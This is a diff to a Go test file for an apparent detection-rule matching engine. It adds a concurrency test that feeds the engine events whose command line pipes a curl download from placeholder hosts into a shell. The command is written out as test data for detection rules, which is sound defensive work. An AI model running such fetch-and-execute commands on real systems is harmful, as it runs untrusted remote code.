@@ -3,6 +3,7 @@ package match
 import (
 	"fmt"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -497,4 +498,27 @@ func TestNoAllocation(t *testing.T) {
 	if n := testing.AllocsPerRun(100, func() { e.Match(ev, emit) }); n > 1 {
 		t.Errorf("%v allocations an event", n)
 	}
+}
+
+// Any number of goroutines match with one engine, while shapes come and go.
+func TestConcurrent(t *testing.T) {
+	rs, _ := rules.Shipped()
+	e, _ := Compile(rs, Options{})
+	var wg sync.WaitGroup
+	for worker := range 4 {
+		wg.Go(func() {
+			for i := range 500 {
+				ev := &schemas.Event{}
+				ev.SetString(schemas.FieldEventKind, "event")
+				ev.SetString(schemas.FieldLogSyslogAppname, fmt.Sprintf("app%d", i%50))
+				ev.SetString(schemas.FieldProcessCommandLine, fmt.Sprintf("curl http://host%d/%d | SH", worker, i))
+				hits := 0
+				e.Match(ev, func(Hit) { hits++ })
+				if hits != 1 {
+					t.Errorf("%d hits", hits)
+				}
+			}
+		})
+	}
+	wg.Wait()
 }
